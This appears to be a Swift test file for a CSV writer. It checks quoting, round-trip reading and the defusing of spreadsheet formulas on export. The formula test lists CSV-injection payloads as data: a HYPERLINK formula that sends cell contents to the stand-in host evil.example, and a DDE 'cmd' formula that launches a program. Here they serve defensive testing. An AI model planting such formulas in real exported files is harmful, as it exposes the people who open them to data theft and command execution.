import Foundation
import Testing
import TarazuTabular

@Suite("CSVWriter")
struct CSVWriterTests {
    @Test func quotesOnlyWhatNeedsQuoting() {
        let text = CSVWriter.write(header: ["id", "name_fa", "note"], rows: [
            ["1", "پارک", "plain"],
            ["2", "a,b", "say \"hi\""],
            ["3", "two\nlines", " leading space"],
            ["4", "semi;colon", "tab\there"],
            ["5", "", "trailing space "],
        ])
        let expected = "id,name_fa,note\n"
            + "1,پارک,plain\n"
            + "2,\"a,b\",\"say \"\"hi\"\"\"\n"
            + "3,\"two\nlines\",\" leading space\"\n"
            + "4,\"semi;colon\",\"tab\there\"\n"
            + "5,,trailing space \n"
        #expect(text == expected)
    }

    @Test func writtenTextReadsBackToTheSameCells() throws {
        let header = ["code", "name_fa", "amount", "note"]
        let rows = [
            ["001", "منطقه\u{200C}یک", "412345678901234567", "\"quoted\", with comma"],
            ["002", "  spaced  ", "-5", "line1\r\nline2"],
            ["003", "تبریز", "0", "tab\tand;semicolon"],
        ]
        let table = try CSVReader.read(Data(CSVWriter.write(header: header, rows: rows).utf8), source: "w.csv",
                                       name: "w")
        #expect(table.header == header)
        #expect(table.rows.map(\.cells) == rows)
        #expect(table.rows.map(\.line) == [2, 3, 5])
    }

    @Test func formulasAreNeutralizedAndNumbersKept() {
        // OWASP's CSV injection rule: =, +, -, @, tab and carriage return at the start of a text field.
        let cells = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1+1)",
                     "-2+3", "\tTAB", "\rCR", "-", "+", "=", "-5", "+7", "-12.50", "3.5", "0", "a=b", "پارک"]
        let text = CSVWriter.write(header: ["cell"], rows: cells.map { [$0] })
        let expected = "cell\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n'=cmd|' /C calc'!A0\n'@SUM(1)\n'+SUM(1+1)\n"
            + "'-2+3\n\"'\tTAB\"\n\"'\rCR\"\n'-\n'+\n'=\n-5\n+7\n-12.50\n3.5\n0\na=b\nپارک\n"
        #expect(text == expected)
        #expect(CSVWriter.write(header: ["cell"], rows: [["=1+1"]], formulas: .kept) == "cell\n=1+1\n")
        #expect(CSVWriter.field("@x") == "'@x")
        #expect(!CSVWriter.looksLikeFormula("-1.5") && CSVWriter.looksLikeFormula("-1.5.5") && CSVWriter.looksLikeFormula("-.5"))
    }
}
